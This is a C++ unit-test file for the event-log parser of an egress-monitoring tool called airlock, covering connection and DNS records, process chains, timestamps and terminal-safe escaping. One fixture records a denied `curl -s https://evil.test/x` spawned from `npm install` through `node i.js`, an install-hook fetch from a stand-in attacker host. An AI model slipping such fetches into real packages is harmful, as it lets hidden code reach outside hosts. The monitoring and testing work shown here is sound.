#include "record/event.hpp"

#include <doctest/doctest.h>

using namespace airlock::record;

TEST_CASE("a connect line: fields, process chain oldest first") {
  const auto e = parse_event(
      R"({"ts":"2026-12-02T14:21:16.123456Z","event":"connect","session":"s1","labels":{"repo":"x"},"tool_call":"t9",)"
      R"("client":"198.51.100.2:40000","name":"evil.test","dst":"203.0.113.66:443","upstream":null,"proto":"tls",)"
      R"("verdict":"deny","reason":"host_not_allowed","rule":"default","conn":7,"policy":"p","policy_version":"v",)"
      R"("process":{"pid":4242,"comm":"curl","cmdline":"curl -s https://evil.test/x","chain":[)"
      R"({"pid":4242,"comm":"curl","cmdline":"curl -s https://evil.test/x"},{"pid":4241,"comm":"node","cmdline":"node i.js"},)"
      R"({"pid":4240,"comm":"sh","cmdline":"sh -c node i.js"},{"pid":4201,"comm":"npm install","cmdline":"npm install"}]},)"
      R"("bytes_up":null,"bytes_down":null,"duration_ms":3,"future_field":[1,2]})");
  REQUIRE(e);
  CHECK(e->kind == event_kind::connect);
  CHECK(e->session == "s1");
  CHECK(e->labels == std::vector<std::pair<std::string, std::string>>{{"repo", "x"}});
  CHECK(e->tool_call == "t9");
  CHECK(e->name == "evil.test");
  CHECK(e->upstream.empty());
  CHECK(e->conn == 7u);
  CHECK(!e->bytes_up);
  CHECK(e->duration_ms == 3u);
  CHECK(e->denied());
  REQUIRE(e->process);
  CHECK(e->process->pid == 4242);
  CHECK(e->process->lineage() == "npm install -> sh -> node -> curl");
  CHECK(e->line.contains("future_field"));  // unknown fields are kept, not refused
  CHECK(e->ts_us == 1796221276123456);
}

TEST_CASE("older lines without labels, tool_call or process read the same way") {
  const auto e = parse_event(
      R"({"ts":"2025-12-02T12:00:00.123456Z","event":"dns","session":"s1","labels":{},"client":"198.51.100.2:5353",)"
      R"("name":"example.com","dst":null,"upstream":null,"proto":"dns","verdict":"allow","reason":"host_allowed",)"
      R"("rule":"a.yaml:3","conn":null,"policy":"p","policy_version":"v","qtype":"A","rcode":"NOERROR","answers":["203.0.113.1"]})");
  REQUIRE(e);
  CHECK(e->kind == event_kind::dns);
  CHECK(e->labels.empty());
  CHECK(e->tool_call.empty());
  CHECK(!e->process);
  CHECK(!e->conn);
  CHECK(e->answers == std::vector<std::string>{"203.0.113.1"});
}

TEST_CASE("a failed process lookup says why; without a chain the lineage is the comm") {
  auto unknown = parse_event(R"({"event":"connect","process":{"unknown":"socket not found"}})");
  REQUIRE(unknown);
  REQUIRE(unknown->process);
  CHECK(unknown->process->unknown == "socket not found");
  CHECK(unknown->process->lineage().empty());
  auto bare = parse_event(R"({"event":"connect","process":{"pid":1,"comm":"wget","cmdline":"wget x"}})");
  REQUIRE(bare);
  CHECK(bare->process->lineage() == "wget");
}

TEST_CASE("what is not an event") {
  CHECK(!parse_event(""));
  CHECK(!parse_event("garbage"));
  CHECK(!parse_event("[1,2]"));
  CHECK(!parse_event(R"({"ts":"2026-12-02T14:21:2)"));
  CHECK(!parse_event(R"({"session":"s1"})"));  // no event
  CHECK(!parse_event(R"({"event":7})"));       // event is not a string
  CHECK(parse_event(R"({"event":"something_new"})")->kind == event_kind::other);
}

TEST_CASE("timestamps") {
  CHECK(parse_ts("1970-01-01T00:00:00Z") == 0);
  CHECK(parse_ts("1970-01-01T00:00:01.5Z") == 1500000);
  CHECK(parse_ts("2000-03-01T00:00:00.000001+00:00") == 951868800000001);
  CHECK(!parse_ts("2026-12-02 14:21"));
  CHECK(!parse_ts("2026-13-02T14:21:16Z"));
  CHECK(!parse_ts("2026-12-02T14:21:16+02:00"));  // the log is UTC
  CHECK(!parse_ts("2026-12-02T14:21:16.Z"));
}

TEST_CASE("address and port of ip:port") {
  CHECK(address_part("198.51.100.7:443") == "198.51.100.7");
  CHECK(port_part("198.51.100.7:443") == 443);
  CHECK(address_part("[2001:db8::1]:8443") == "2001:db8::1");
  CHECK(port_part("[2001:db8::1]:8443") == 8443);
  CHECK(address_part("2001:db8::1") == "2001:db8::1");
  CHECK(!port_part("2001:db8::1"));
  CHECK(!port_part("198.51.100.7:99999"));
  CHECK(!port_part(""));
}

TEST_CASE("printable: control bytes, escapes and non-ASCII cannot reach a terminal") {
  CHECK(printable("registry.npmjs.org") == "registry.npmjs.org");
  CHECK(printable("a\x1b[31mb\n") == "a\\x1b[31mb\\x0a");
  CHECK(printable("\xc2\x9b") == "\\xc2\\x9b");  // C1 CSI as UTF-8
  CHECK(printable("a\\b") == "a\\x5cb");
}
